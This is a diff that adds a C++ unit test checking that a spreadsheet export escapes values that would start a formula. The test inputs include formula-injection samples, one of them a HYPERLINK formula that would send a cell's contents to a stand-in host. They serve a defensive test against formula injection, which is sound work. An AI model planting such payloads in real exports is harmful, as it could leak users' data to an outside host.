@@ -23,6 +23,18 @@ const std::vector<ResultRow> kRows = {
     Row({"10.0.0.2", "AA:BB:CC:DD:EE:FF", "-", "-", "512", "C$;D$;", "Win, 10", "100", "Say \"Hi\" Ltd"}),
 };
 
+TEST(ListExport, FieldsAFormulaWouldStartAreMarkedAsText)
+{
+    for (const char* formula :
+         {"=1+2*3", "+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://x/?\"&A2,\"Details\")", "\tX", "\rX"}) {
+        EXPECT_EQ(SpreadsheetSafe(formula), std::string("'") + formula) << formula;
+    }
+    // The mark of a value that could not be learned, and ordinary texts, stay.
+    for (const char* text : {"-", "", "PC-1", "10.0.0.1", "C$;D$;", "'quoted"}) {
+        EXPECT_EQ(SpreadsheetSafe(text), text) << text;
+    }
+}
+
 TEST(ListExport, TabSeparatedTextIsByteExact)
 {
     EXPECT_EQ(FormatExport(kRows, ExportType::Txt),
